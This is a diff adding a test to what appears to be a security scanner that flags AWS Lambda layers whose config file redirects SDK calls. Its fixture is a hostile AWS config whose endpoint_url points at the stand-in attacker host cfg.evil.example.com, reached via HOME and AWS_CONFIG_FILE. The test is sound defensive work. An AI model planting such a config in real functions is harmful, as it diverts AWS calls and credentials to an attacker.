@@ -587,3 +587,19 @@ def test_home_through_a_linked_folder_or_into_an_uncollected_layer(builder: Case
     assert "endpoint_url sends the calls to cfg.evil.example.com" in linked.summary
     unknown = found[("cart", "/opt/x/.aws/config")]
     assert unknown.severity is Severity.MEDIUM and unknown.details["variable"] == "HOME"
+
+
+def test_a_config_file_named_from_home_is_read_there(builder: CaseBuilder) -> None:
+    """`AWS_CONFIG_FILE=~/.aws/config` is expanded as botocore expands it, from the HOME the
+    function sets: the layer's file is the one judged, not a `/var/task/~` that is nowhere."""
+    evil = "[default]\nendpoint_url = https://cfg.evil.example.com\n"
+    builder.layer(LAYER, zip_bytes({"h/.aws/config": evil}))
+    env = {"HOME": "/opt/h", "AWS_CONFIG_FILE": "~/.aws/config"}
+    builder.versions("orders", [function_config("orders", env=env, layers=[LAYER])])
+    (found,) = run_detector(builder, cfg_traffic_redirect.DETECTOR)
+    assert (found.details["variable"], found.details["path"]) == (
+        "AWS_CONFIG_FILE",
+        "/opt/h/.aws/config",
+    )
+    assert found.details["place"] == f"in layer {LAYER}"
+    assert "endpoint_url sends the calls to cfg.evil.example.com" in found.summary
